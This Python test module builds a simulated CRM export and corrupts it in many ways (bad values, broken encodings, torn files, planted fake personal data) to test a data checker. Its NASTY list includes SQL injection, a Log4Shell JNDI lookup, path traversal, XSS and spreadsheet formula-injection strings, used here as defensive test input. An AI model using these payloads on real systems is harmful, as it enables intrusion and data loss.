"""A simulated export as rows and files, and many ways in which a real one is broken."""

import csv
import json
import random
import shutil
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

Row = dict[str, str]
CSV_TABLES = {
    "accounts": "accounts",
    "leads": "leads",
    "stage_history": "stage_changes",
    "opportunities": "opportunities",
    "spend": "spend",
}
"""Raw file to canonical table."""

CANARIES = ("zebedee.canary@planted-canary.org", "+49 170 5550199", "Zebedeeh Canarywood")
"""An email address, a phone number and a name of a person who does not exist. None may turn up in what a check says."""

NASTY = (
    "", " ", "\u00a0", "NULL", "N/A", "nan", "inf", "-inf", "1e400", "-1", "9" * 400, "1,5", "1.234,56", "0x10",
    "\uff11\uff12", "31.02.2026", "2026-02-30", "0000-00-00", "1899-12-31", "9999-12-31T23:59:59Z", "10000-01-01",
    "1970-01-01", "2026-06-30T23:59:60Z", "2026-06-30T18:00:00+14:00", "-290308-01-01", "20260630", "infinity",
    '=HYPERLINK("http://x.example")', "@SUM(1)", "-2+3", "'; DROP TABLE leads; --", "${jndi:ldap://x.example}",
    "{data_folder}", "../../etc/passwd", "<script>alert(1)</script>", "\u202eevil", "👩‍👩‍👧", "ß", "İ", "a\u0301",
    "\x1f", "\x1e", "line\nbreak", "cr\rhere", 'quo"te', "comma, in", "tab\there", "x" * 100_000, "\ufeffmark",
    "L-0000001", "%s %d {} {0}", "\\", "[1, 2]", '{"a": 1}', "true", "0", "-0.0", "1e-320", "C:\\temp",
)  # fmt: skip


@dataclass
class Export:
    """One export, to be mutated: rows of the CSV files, and what is done to the written files afterwards.

    Attributes
    ----------
    is_row_for_row
        Whether a table's rows are what `rows` says. A mutation of bytes may cut or double some.
    """

    rows: dict[str, list[Row]]
    names: dict[str, list[str]]
    activities: pa.Table
    changes: list[str]
    exported_at: str
    after: list[Callable[[Path], None]] = field(default_factory=list)
    is_row_for_row: bool = True

    def write(self, folder: Path) -> None:
        """The files of the export, in `folder`, which is emptied first."""
        shutil.rmtree(folder, ignore_errors=True)
        (folder / "activities").mkdir(parents=True)
        for name, rows in self.rows.items():
            with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
                writer = csv.writer(file, lineterminator="\n")
                writer.writerow(self.names[name])
                writer.writerows([row.get(column, "") for column in self.names[name]] for row in rows)
        pq.write_table(self.activities, folder / "activities" / "part-0000.parquet")
        (folder / "field_history.jsonl").write_text("".join(self.changes), encoding="utf-8", newline="")
        (folder / "export.json").write_text(self.exported_at, encoding="utf-8")
        for change in self.after:
            change(folder)


def read_export(folder: Path) -> Export:
    """The simulated export in `folder`, with a planted person in each lead and account."""
    rows, names = {}, {}
    for name in CSV_TABLES:
        with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            reader = csv.DictReader(file)
            rows[name] = list(reader)
            names[name] = list(reader.fieldnames or ())
    email, _, person = CANARIES
    for lead in rows["leads"]:
        lead |= {"FirstName": person.split()[0], "LastName": person, "Email": email}
    for account in rows["accounts"]:
        account["AccountName"] = person
    changes = (folder / "field_history.jsonl").read_text(encoding="utf-8").splitlines(keepends=True)
    return Export(rows, names, pq.read_table(folder / "activities"), changes, (folder / "export.json").read_text())


def copy_of(export: Export) -> Export:
    """A copy of which anything may be changed."""
    rows = {name: [dict(row) for row in table] for name, table in export.rows.items()}
    names = {name: list(columns) for name, columns in export.names.items()}
    return Export(rows, names, export.activities, list(export.changes), export.exported_at)


Mutation = Callable[[Export, random.Random], None]


def _some(rng: random.Random, rows: list[Row]) -> list[Row]:
    """One row, a few, or many: below and above what a check tolerates."""
    n = rng.choice([1, 3, max(1, len(rows) // 50), max(1, len(rows) // 4)])
    return rng.sample(rows, min(n, len(rows)))


def _table(export: Export, rng: random.Random) -> str:
    return rng.choice([name for name, rows in export.rows.items() if rows and export.names[name]])


# ---------------------------------------------------------------------------------------------------------------------
# Rows
# ---------------------------------------------------------------------------------------------------------------------
def nasty_cells(export: Export, rng: random.Random) -> None:
    """Odd values in odd places."""
    name = _table(export, rng)
    for row in _some(rng, export.rows[name]):
        row[rng.choice(export.names[name])] = rng.choice(NASTY)


def nasty_column(export: Export, rng: random.Random) -> None:
    """The same odd value all down a column."""
    name = _table(export, rng)
    column, value = rng.choice(export.names[name]), rng.choice(NASTY)
    for row in export.rows[name]:
        row[column] = value


def repeated_rows(export: Export, rng: random.Random) -> None:
    """Rows twice, some with other content under the same key."""
    name = _table(export, rng)
    for row in _some(rng, export.rows[name]):
        export.rows[name].append(dict(row) | ({rng.choice(export.names[name]): "other"} if rng.random() < 0.5 else {}))
    rng.shuffle(export.rows[name])


def orphans(export: Export, rng: random.Random) -> None:
    """Rows of leads and accounts that are not there."""
    name = rng.choice(["stage_history", "opportunities", "leads"])
    column = "AccountId" if name == "leads" else "LeadId"
    for row in _some(rng, export.rows[name]):
        row[column] = f"GHOST-{rng.randrange(5)}"


def circles(export: Export, rng: random.Random) -> None:
    """Leads merged in a circle, into themselves, in a long chain, into nobody."""
    leads = rng.sample(export.rows["leads"], min(len(export.rows["leads"]), rng.choice([1, 2, 5, 60])))
    ends = [leads[0]["Id"], "", "GHOST-1", leads[-1]["Id"]]
    for lead, into in zip(leads, [*(other["Id"] for other in leads[1:]), rng.choice(ends)], strict=True):
        lead |= {"MergedInto": into, "MergedDate": rng.choice(["", "2026-01-01T00:00:00Z", "2060-01-01", "soon"])}


def odd_times(export: Export, rng: random.Random) -> None:
    """Times in the future, before the lead, before Christ, with and without zones."""
    name = rng.choice(["stage_history", "leads", "opportunities"])
    columns = [column for column in export.names[name] if "Date" in column]
    times = ("2062-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "0001-01-01", "2026-03-01 10:00", "2025-10-26T02:30:00+02")
    for row in _some(rng, export.rows[name]):
        row[rng.choice(columns)] = rng.choice(times)


def persons_in_words(export: Export, rng: random.Random) -> None:
    """What identifies a person, in a column that should hold words."""
    places = {
        "stage_history": ("NewStage", "Reason"),
        "leads": ("Campaign", "LeadSource", "Seniority", "CreatedDate"),
        "opportunities": ("Amount", "Outcome"),
    }
    name = rng.choice(list(places))
    column = rng.choice(places[name])
    for row in _some(rng, export.rows[name]):
        row[column] = rng.choice(CANARIES[:2])  # a name looks like a word, and is told as one that is not mapped


def persons_as_ids(export: Export, rng: random.Random) -> None:
    """A CRM whose ids are addresses."""
    for row in rng.sample(export.rows["leads"], min(2, len(export.rows["leads"]))):
        row["Id"] = CANARIES[0]


def no_rows(export: Export, rng: random.Random) -> None:
    """A header and nothing below, or a single row."""
    name = _table(export, rng)
    export.rows[name] = export.rows[name][: rng.choice([0, 1])]


# ---------------------------------------------------------------------------------------------------------------------
# Columns
# ---------------------------------------------------------------------------------------------------------------------
def dropped_column(export: Export, rng: random.Random) -> None:
    """A column is gone."""
    name = _table(export, rng)
    export.names[name].remove(rng.choice(export.names[name]))


def added_column(export: Export, rng: random.Random) -> None:
    """A column more, perhaps called like one of ours."""
    name = _table(export, rng)
    added = rng.choice(["source_row", "lead_id", "Neu; 'ß\"", "leadscore_grade", "x" * 300, "select", ""])
    export.names[name].insert(rng.randrange(len(export.names[name])), added)


def swapped_columns(export: Export, rng: random.Random) -> None:
    """Two headers, or two columns' values, change places."""
    name = _table(export, rng)
    one, other = rng.sample(export.names[name], 2)
    for row in export.rows[name]:
        row[one], row[other] = row[other], row[one]


def other_case(export: Export, rng: random.Random) -> None:
    """Headers in another case, or the same header twice."""
    name = _table(export, rng)
    place = rng.randrange(len(export.names[name]))
    was = export.names[name][place]
    export.names[name][place] = now = rng.choice([was.upper(), f" {was} ", rng.choice(export.names[name])])
    for row in export.rows[name]:
        row[now] = row[was]


# ---------------------------------------------------------------------------------------------------------------------
# Bytes
# ---------------------------------------------------------------------------------------------------------------------
def _on_bytes(export: Export, name: str, change: Callable[[bytes], bytes], *, is_row_for_row: bool) -> None:
    def changed(folder: Path) -> None:
        path = folder / name
        path.write_bytes(change(path.read_bytes()))

    export.after.append(changed)
    export.is_row_for_row &= is_row_for_row


def encodings(export: Export, rng: random.Random) -> None:
    """Another encoding, with letters in it that show."""
    name = _table(export, rng)
    for row in _some(rng, export.rows[name]):
        row[rng.choice(export.names[name])] = "Größe é ñ €"
    encoding = rng.choice(["latin-1", "cp1252", "utf-16", "utf-8-sig", "utf-16-le"])
    change = lambda data: data.decode().encode(encoding, errors="replace")  # noqa: E731
    _on_bytes(export, f"{name}.csv", change, is_row_for_row=False)


def line_ends(export: Export, rng: random.Random) -> None:
    """Other line ends, mixed ones, blank lines, no last one."""
    changes: list[Callable[[bytes], bytes]] = [
        lambda data: data.replace(b"\n", b"\r\n"),
        lambda data: data.replace(b"\n", b"\r"),
        lambda data: data.replace(b"\n", b"\r\n", 20),
        lambda data: data.replace(b"\n", b"\n\r", 3),
        lambda data: b"\n" + data,
        lambda data: data + b"\n\n\n",
        lambda data: data.rstrip(b"\n"),
        lambda data: data.replace(b"\n", b"\n\n", 5),
    ]
    _on_bytes(export, f"{_table(export, rng)}.csv", rng.choice(changes), is_row_for_row=False)


def cut_and_torn(export: Export, rng: random.Random) -> None:
    """Bytes cut off, turned over, or put in."""
    name = rng.choice([*(f"{name}.csv" for name in export.rows), "field_history.jsonl", "activities/part-0000.parquet"])
    seed = rng.randrange(1_000_000)

    def change(data: bytes) -> bytes:
        local = random.Random(seed)  # noqa: S311
        at = local.randrange(len(data) + 1)
        inserted = local.choice([b"\x00", b'"', b"\xff\xfe", b",,,,", b"\n\x1a", b"\r", b"\x00" * 5000])
        return local.choice([data[:at], data[:at] + inserted + data[at:], data[at:], b""])

    _on_bytes(export, name, change, is_row_for_row=False)


def too_wide(export: Export, rng: random.Random) -> None:
    """A line with a cell too many, or too few, late in the file; it names a person."""
    name = rng.choice(["leads", "stage_history", "accounts"])
    line = rng.choice([b",".join(canary.encode() for canary in CANARIES) + b"," * 40, CANARIES[0].encode()]) + b"\n"
    _on_bytes(export, f"{name}.csv", lambda data: data + line, is_row_for_row=False)


def delimiters(export: Export, rng: random.Random) -> None:
    """Semicolons, tabs, single quotes: the export of another country's spreadsheet."""
    new = rng.choice([b";", b"\t", b"|"])
    _on_bytes(export, f"{_table(export, rng)}.csv", lambda data: data.replace(b",", new), is_row_for_row=False)


# ---------------------------------------------------------------------------------------------------------------------
# The other files
# ---------------------------------------------------------------------------------------------------------------------
def odd_activities(export: Export, rng: random.Random) -> None:
    """Activities with other types, without a column, in two shapes, or with odd values."""
    table = export.activities
    column = rng.choice(table.column_names)
    place = table.column_names.index(column)
    texts = pa.array([rng.choice(NASTY) if rng.random() < 0.02 else str(v) for v in table[column].to_pylist()])
    numbers = pa.array([rng.randrange(-(2**62), 2**62) for _ in range(len(table))])
    kinds = [
        table.set_column(place, column, texts),
        table.set_column(place, column, numbers),
        table.set_column(place, column, pa.nulls(len(table))),
        table.drop_columns([column]),
        table.slice(0, rng.choice([0, 1, len(table) // 3])),
        pa.concat_tables([table, table.slice(0, 20)]),
        table.append_column("source_row", numbers),
    ]
    export.activities = rng.choice(kinds)


def second_part(export: Export, rng: random.Random) -> None:
    """A second file of activities, of another shape or none."""
    junk = rng.choice([b"", b"PAR1", CANARIES[0].encode() * 50])
    path = "activities/part-0001.parquet"
    export.after.append(lambda folder: (folder / path).write_bytes(junk) and None)
    export.is_row_for_row = False


def odd_changes(export: Export, rng: random.Random) -> None:
    """Lines of the field history that are no JSON, deep, repeated, or of something else."""
    lines = [
        "{\n", "null\n", "[]\n", '"text"\n', "\n", '{"Object": {"a": [1]}}\n', '{"Object": "Lead"}\n',
        json.dumps({"Object": "Lead", "RecordId": "L-0000001", "Field": CANARIES[0], "NewValue": CANARIES[1]}) + "\n",
        '{"a": ' * 500 + "1" + "}" * 500 + "\n", rng.choice(export.changes), rng.choice(export.changes)[:20] + "\n",
    ]  # fmt: skip
    for line in rng.sample(lines, rng.choice([1, 3])):
        export.changes.insert(rng.randrange(len(export.changes)), line)
    export.is_row_for_row = False


def odd_extract_time(export: Export, rng: random.Random) -> None:
    """No time of the extract, two, or one that cannot be."""
    times = [
        "", "{}", "null", '{"exported_at": null}', '{"exported_at": "soon"}', '{"exported_at": "1900-01-01T00:00:00Z"}',
        '{"exported_at": "9999-12-31T00:00:00Z"}', '{"exported_at": "2026-06-30T18:00:00Z"}\n' * 2, "[1, 2",
        json.dumps({"exported_at": CANARIES[0]}), '{"exported_at": "2025-06-30T18:00:00+05:30"}',
    ]  # fmt: skip
    export.exported_at = rng.choice(times)


def missing_file(export: Export, rng: random.Random) -> None:
    """A file is not there."""
    name = rng.choice([*(f"{name}.csv" for name in export.rows), "field_history.jsonl", "export.json"])
    export.after.append(lambda folder: (folder / name).unlink(missing_ok=True))


def nothing(export: Export, rng: random.Random) -> None:
    """The export as it is: it must be accepted."""


MUTATIONS: Mapping[str, Mutation] = {
    mutation.__name__: mutation
    for mutation in (
        nothing, nasty_cells, nasty_column, repeated_rows, orphans, circles, odd_times, persons_in_words,
        persons_as_ids, no_rows, dropped_column, added_column, swapped_columns, other_case, encodings, line_ends,
        cut_and_torn, too_wide, delimiters, odd_activities, second_part, odd_changes, odd_extract_time, missing_file,
    )
}  # fmt: skip
